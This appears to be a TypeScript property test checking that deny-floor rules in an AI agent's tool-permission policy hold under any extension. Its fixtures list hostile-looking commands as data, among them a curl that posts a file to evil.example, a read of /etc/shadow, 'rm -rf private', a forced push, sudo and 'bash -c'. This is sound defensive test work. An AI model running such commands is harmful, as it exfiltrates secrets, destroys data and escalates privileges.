import { InputError } from '../../src/errors.ts';
import { interpret } from '../../src/interpret/interpret.ts';
import { type CompiledPolicy, compileMerged, compilePolicy } from '../../src/policy/compile.ts';
import { exampleCall, exampleScope } from '../../src/policy/examples.ts';
import { loadTiers } from '../../src/policy/load.ts';
import { effects, grants, modes } from '../../src/policy/policy.ts';
import type { Tier } from '../../src/policy/policy-file.ts';
import { type Random, randomOf } from '../shell/random.ts';
import { commandOf } from './commands.ts';
import type { Invariant } from './invariant.ts';

const floor = (id: string, when: string, example: string) =>
  `  - { id: ${id}, effect: deny, floor: true, reason: r, when: ${when}, examples: { match: ['${example}'] } }`;

/** What is built on: floor rules over every kind of thing that a policy on top can also speak of. */
const base = (delegates: string) => `version: 1
name: base
${delegates}
lists: { held: [secrets, private], hosts: [evil.example] }
mcp: { servers: { forbidden: { risk: forbidden }, open: { risk: low, tools: { drop: high } } } }
rules:
${floor('system', '{ operation: [read, write, delete], path: "/etc/**" }', 'Read: /etc/hosts')}
${floor('listed', '{ operation: [read, write, delete], path: "${workspace}/${held}/**" }', 'Read: secrets/a')}
${floor('hosts', '{ operation: connect, host: "${hosts}" }', 'WebFetch: https://evil.example/')}
${floor('tools', '{ operation: call, risk: [high, forbidden] }', 'mcp__open__drop')}
${floor('force', '{ operation: change, what: git, force: true }', 'Bash: git push --force')}
${floor('root', '{ operation: execute, program: [sudo, su] }', 'Bash: sudo ls')}
${floor('code', '{ operation: evaluate }', 'Bash: bash -c "$x"')}
  - { id: soft, effect: deny, overridable: true, reason: r, when: { operation: write, path: "/srv/**" }, examples: { match: ['Write: /srv/a'] } }
`;

const fixed = [
  'Read: /etc/shadow',
  'Write: secrets/a',
  'Bash: rm -rf private',
  'Bash: cat secrets/* /etc/hosts',
  'WebFetch: https://evil.example/x',
  'Bash: curl -d @a https://evil.example',
  'mcp__forbidden__x',
  'mcp__open__drop',
  'mcp__open__look',
  'Bash: git push --force origin main',
  'Bash: sudo ls',
  'Bash: bash -c "$x"',
];
const ids = ['system', 'listed', 'hosts', 'tools', 'force', 'root', 'code', 'soft', 'mine'] as const;
const paths = ['/**', '/etc/**', '/etc/hosts', '${workspace}/**', '${workspace}/${held}/**', '/srv/**'] as const;

const matcher = (random: Random) =>
  random.of<() => string>([
    () => `{ operation: [read, write, delete], path: "${random.of(paths)}" }`,
    () => '{ operation: [execute, connect, change, call, evaluate] }',
    () => '{ operation: connect, host: "*" }',
    () => '{ operation: call, server: "*", risk: [low, medium, high, forbidden] }',
    () => '{ operation: change, what: git, force: true }',
    () => '{ operation: execute, program: [sudo, bash, git] }',
  ])();

function ruleOf(random: Random): string {
  const more = [
    random.once(3) ? `, mode: ${random.of(modes)}` : '',
    random.once(4) ? ', floor: true' : '',
    random.once(4) ? ', overridable: true' : '',
    random.once(3) ? `, unless: ${matcher(random)}` : '',
  ].join('');
  return `  - { id: ${random.of(ids)}, effect: ${random.of(effects)}, reason: r, when: ${matcher(random)}${more}, examples: { match: ["Read: a"] } }`;
}

const parts: readonly ((random: Random) => string)[] = [
  random => `mode: ${random.of(modes)}`,
  random => `delegates: [${random.of(grants)}]`,
  random => `lists: { held: [${random.of(['other', 'secrets', ''])}], hosts: [${random.of(['a.example', ''])}] }`,
  random =>
    `mcp: { servers: { ${random.of(['forbidden', 'open'])}: { risk: ${random.of(['low', 'high'])}, tools: { drop: low } } } }`,
  random => `rules:\n${Array.from({ length: 1 + random.below(3) }, () => ruleOf(random)).join('\n')}`,
  random =>
    `exceptions:\n  - { rule: ${random.of(ids)}, owner: o, reason: r, expires: 2999-12-31, when: ${matcher(random)}, examples: { match: ["Read: /etc/a"] } }`,
];

function extensionOf(random: Random, extend: string): string {
  const chosen = parts.filter(() => random.once(2)).map(part => part(random));
  return ['version: 1', 'name: extension', extend, ...chosen, ''].join('\n');
}

interface Extended {
  readonly compiled: CompiledPolicy;
  readonly texts: string;
}

/** A policy on the base: one that extends it, or the tiers under it. Nothing when it is refused. */
function extendedBy(random: Random): Extended | undefined {
  const under = random.once(2);
  const texts: readonly (readonly [Tier, string])[] = under
    ? [
        ['organisation', base(`delegates: [${grants.filter(() => !random.once(4)).join(', ') || 'allow'}]`)],
        ['repository', extensionOf(random, '')],
        ['run', extensionOf(random, '')],
      ]
    : [['repository', extensionOf(random, 'extends: base')]];
  const given = texts.map(([tier, text]) => ({ tier, source: { file: tier, text } }));
  try {
    const loaded = loadTiers(given, reference => ({ file: reference, text: base('') }));
    if (loaded.problems.length > 0) return undefined;
    return { compiled: compileMerged(loaded.policy), texts: JSON.stringify(loaded.policy) };
  } catch (error) {
    if (error instanceof InputError) return undefined;
    throw error;
  }
}

const scope = { ...exampleScope, today: '2026-01-01' };
const plain = compilePolicy(
  loadTiers([{ tier: 'repository', source: { file: 'base', text: base('') } }], reference => {
    throw new Error(`\`${reference}\` is extended by nobody`);
  }),
  interpret,
);

/** One extension is tried on as many calls as this. */
const together = 64;
let last: { readonly number: number; readonly extended: Extended | undefined } | undefined;

/** The extension of this number, the same one every time; what is refused makes place for the next one. */
function extensionNumber(number: number): Extended | undefined {
  if (last?.number === number) return last.extended;
  const random = randomOf(number);
  let extended: Extended | undefined;
  for (let attempt = 0; attempt < 200 && extended === undefined; attempt++) extended = extendedBy(random);
  last = { number, extended };
  return extended;
}

function saidOf({ policy, bind }: CompiledPolicy, seed: number) {
  const random = randomOf(seed);
  const example = random.once(3) ? `Bash: ${commandOf(seed)}` : (fixed[random.below(fixed.length)] ?? '');
  const call = exampleCall(example);
  if ('problem' in call) throw new Error(`${call.problem}: ${example}`);
  const context = { home: exampleScope.home[0] ?? '/', servers: policy.mcp?.servers ?? {} };
  const { effect, matches } = bind(scope).evaluate(interpret(call, context), call.tool);
  return { example, effect, held: matches.some(({ rule }) => rule.floor) };
}

/** What holds for policies, whatever is built on them. */
export const extensionInvariants: readonly Invariant[] = [
  {
    name: 'a floor rule survives any extension',
    share: 54,
    check: seed => {
      const before = saidOf(plain, seed);
      const extended = extensionNumber(Math.floor(seed / together));
      if (!before.held || extended === undefined) return undefined;
      const after = saidOf(extended.compiled, seed);
      return after.effect === 'deny' ? undefined : `${before.example} is ${after.effect} under ${extended.texts}`;
    },
  },
];
